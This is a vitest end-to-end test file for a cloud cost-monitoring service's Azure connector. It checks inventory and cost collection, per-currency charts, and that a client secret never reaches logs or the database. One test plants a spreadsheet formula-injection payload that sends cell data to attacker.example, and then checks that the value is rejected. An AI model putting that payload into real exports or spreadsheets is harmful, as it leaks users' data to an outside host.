import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createAzureConnector } from '../../src/connectors/azure/index.js'
import { IDS, SUB_DEV, SUB_PROD, sampleEstate } from '../fakes/azure/data.js'
import { type FakeAzure, startFakeAzure } from '../fakes/azure/server.js'
import { fetchTrusting, selfSignedCertificate } from '../fakes/azure/tls.js'
import { useTestApp } from '../support/app.js'
import { testDialects } from '../support/dialects.js'

const API = '/api/public/v1'
const DIRECTORY = 'c0ffee00-1111-4222-8333-444455556666'
const APP = '11111111-aaaa-4bbb-8ccc-000000000001'
const SECRET = 'Zq9~canary-client-secret_for-the-snapshot-test'

for (const dialect of testDialects()) {
  describe(`${dialect}: a snapshot of an Azure tenant, end to end`, () => {
    const t = useTestApp({ dialect, now: '2023-11-06T09:00:00.000Z', env: { COSTWATCH_CONNECTOR: 'azure' } })
    const estate = sampleEstate()
    const tls = selfSignedCertificate('127.0.0.1', 'IP:127.0.0.1')
    let fake: FakeAzure

    beforeAll(async () => {
      fake = await startFakeAzure({
        tls: { key: tls.key, certificate: tls.certificate },
        tenantId: DIRECTORY,
        apps: [{ clientId: APP, secret: SECRET }],
        managedIdentities: [],
        identityHeader: 'unused',
        estate,
        pageSizes: { subscriptions: 1, graph: 3, costs: 5 },
      })
    })
    afterAll(async () => fake?.close())

    /** One worker turn with the Azure connector pointed at the fake (waits skipped). */
    const runWorkerAgainstFake = async () => {
      const azure = createAzureConnector({
        authorityHost: fake.url,
        armEndpoint: fake.url,
        fetch: fetchTrusting(tls.certificate),
        sleep: async () => {},
      })
      await t.worker({ connectors: { azure } }).runOnce()
    }

    /** Worker turns until the run is over: earlier tests leave analysis runs queued before it. */
    const finished = async (tenantId: string, runId: string, key: string) => {
      for (let turn = 0; turn < 5; turn++) {
        await runWorkerAgainstFake()
        const run = (await t.request('GET', `${API}/tenants/${tenantId}/snapshots/${runId}`, key)).json()
        if (run.status !== 'Queued' && run.status !== 'Running') return run
      }
      throw new Error(`run ${runId} did not finish`)
    }

    it('collects inventory and costs through the API, the worker and the Azure protocols', async () => {
      const org = await t.given.organisation()
      const created = await t.request('POST', `${API}/tenants`, org.ownerKey, {
        name: 'Contoso',
        cloudTenantId: DIRECTORY,
        credentialType: 'ServicePrincipalSecret',
        clientId: APP,
        clientSecret: SECRET,
      })
      expect(created.statusCode, created.body).toBe(201)
      const tenant = created.json()
      expect(tenant.connector).toBe('azure')
      const run = (
        await t.request('POST', `${API}/tenants/${tenant.id}/snapshots?deepHistory=true`, org.ownerKey)
      ).json()

      await runWorkerAgainstFake()

      const done = (await t.request('GET', `${API}/tenants/${tenant.id}/snapshots/${run.id}`, org.ownerKey)).json()
      expect(done, JSON.stringify(done.error)).toMatchObject({
        status: 'Succeeded',
        periodStart: '2023-10-07',
        periodEnd: '2023-11-06',
      })
      expect(done.stats).toMatchObject({ subscriptions: 2, resourceGroups: 3, resources: 9 })
      // The connector dates its billing-currency lookback by the worker's clock, not by the host's.
      type CostBody = { timePeriod: unknown; dataset: { granularity: string; grouping: unknown[] } }
      const lookbacks = fake.requests
        .filter((r) => r.kind === 'cost')
        .map((r) => r.body as CostBody)
        .filter((b) => b.dataset.granularity === 'None' && b.dataset.grouping.length === 0)
      expect(lookbacks).toHaveLength(2) // one per subscription
      for (const b of lookbacks)
        expect(b.timePeriod).toEqual({ from: '2023-10-08T00:00:00Z', to: '2023-11-06T23:59:59Z' })
      expect(fake.issued.map((i) => i.grant)).toContain('client_secret')

      const subs = (await t.request('GET', `${API}/tenants/${tenant.id}/subscriptions`, org.ownerKey)).json()
      expect(subs.items.map((s: { subscriptionId: string }) => s.subscriptionId).sort()).toEqual(
        [SUB_PROD, SUB_DEV].sort(),
      )
      const vm = (
        await t.request('GET', `${API}/tenants/${tenant.id}/resources?armResourceName=web-vm-1`, org.ownerKey)
      ).json().items[0]
      expect(vm.armId.toLowerCase()).toBe(IDS.webVm.toLowerCase())

      // Cost Management answers lower-case ids; they land on the inventory's resources all the same.
      const expectedVm = estate.usage
        .filter((u) => u.resourceId.toLowerCase() === IDS.webVm.toLowerCase())
        .reduce((a, u) => a + u.cost, 0)
      expect(expectedVm).toBeGreaterThan(0)
      const vmChart = (
        await t.request(
          'GET',
          `${API}/tenants/${tenant.id}/costs/daily?scope=resource:${vm.id}&from=2023-10-31&to=2023-11-06`,
          org.ownerKey,
        )
      ).json()
      expect(vmChart.points.reduce((a: number, p: { cost: number }) => a + p.cost, 0)).toBeCloseTo(expectedVm, 1) // each day is rounded to the cent
      // The two subscriptions are billed in EUR and USD: never added together. Each one's chart has all of its
      // costs in its own currency; the tenant's chart, those in the currency of its latest day.
      const currencyOf = new Map(estate.subscriptions.map((s) => [s.subscriptionId, s.currency]))
      const totalIn = (currency: string) =>
        estate.usage.filter((u) => currencyOf.get(u.subscriptionId) === currency).reduce((a, u) => a + u.cost, 0)
      const sumOf = (chart: { points: { cost: number }[] }) => chart.points.reduce((a, p) => a + p.cost, 0)
      const week = 'from=2023-10-31&to=2023-11-06'
      for (const sub of estate.subscriptions) {
        expect(totalIn(sub.currency)).toBeGreaterThan(0)
        const subChart = (
          await t.request(
            'GET',
            `${API}/tenants/${tenant.id}/costs/daily?scope=subscription:${sub.subscriptionId}&${week}`,
            org.ownerKey,
          )
        ).json()
        expect(subChart.currency).toBe(sub.currency)
        expect(sumOf(subChart)).toBeCloseTo(totalIn(sub.currency), 1)
      }
      const chart = (await t.request('GET', `${API}/tenants/${tenant.id}/costs/daily?${week}`, org.ownerKey)).json()
      expect(['EUR', 'USD']).toContain(chart.currency)
      expect(sumOf(chart)).toBeCloseTo(totalIn(chart.currency), 1)

      // The secret went to the token endpoint and nowhere else.
      const everything =
        JSON.stringify(await t.db.kysely.selectFrom('tenants').selectAll().execute()) + t.logs.join('\n')
      expect(everything).not.toContain(SECRET)
    })

    it('records a refused credential as a Failed run with a readable error and no secret', async () => {
      const org = await t.given.organisation()
      const tenant = (
        await t.request('POST', `${API}/tenants`, org.ownerKey, {
          name: 'Wrong secret',
          cloudTenantId: DIRECTORY,
          credentialType: 'ServicePrincipalSecret',
          clientId: APP,
          clientSecret: `${SECRET}-wrong`,
        })
      ).json()
      const run = (await t.request('POST', `${API}/tenants/${tenant.id}/snapshots`, org.ownerKey)).json()
      await runWorkerAgainstFake()
      const failed = (await t.request('GET', `${API}/tenants/${tenant.id}/snapshots/${run.id}`, org.ownerKey)).json()
      expect(failed).toMatchObject({ status: 'Failed', error: { code: 'auth_failed' } })
      expect(failed.error.message).not.toContain(SECRET)
      expect(t.logs.join('\n')).not.toContain(SECRET)
    })

    it('fails a run whose cost data names a currency that is not an ISO 4217 code, keeping none of it', async () => {
      const org = await t.given.organisation()
      const tenant = (
        await t.request('POST', `${API}/tenants`, org.ownerKey, {
          name: 'Hostile currency',
          cloudTenantId: DIRECTORY,
          credentialType: 'ServicePrincipalSecret',
          clientId: APP,
          clientSecret: SECRET,
        })
      ).json()
      const formula = '=HYPERLINK("https://attacker.example/?"&A1,"EUR")'
      const prod = estate.subscriptions[0]!
      const was = prod.currency
      prod.currency = formula
      try {
        const run = (await t.request('POST', `${API}/tenants/${tenant.id}/snapshots`, org.ownerKey)).json()
        const failed = await finished(tenant.id, run.id, org.ownerKey)
        expect(failed).toMatchObject({ status: 'Failed', error: { code: 'provider_error' } })
        expect(failed.error.message).toContain('not a three-letter ISO 4217 code')
        expect(failed.error.message).not.toContain('HYPERLINK')
        const subs = (await t.request('GET', `${API}/tenants/${tenant.id}/subscriptions`, org.ownerKey)).json()
        expect(subs.totalCount).toBe(0)
        const chart = (
          await t.request('GET', `${API}/tenants/${tenant.id}/costs/daily?from=2023-10-31&to=2023-11-06`, org.ownerKey)
        ).json()
        expect(JSON.stringify(chart)).not.toContain('HYPERLINK')
        expect(chart.points.reduce((a: number, p: { cost: number }) => a + p.cost, 0)).toBe(0)
      } finally {
        prod.currency = was
      }
    })
  })
}
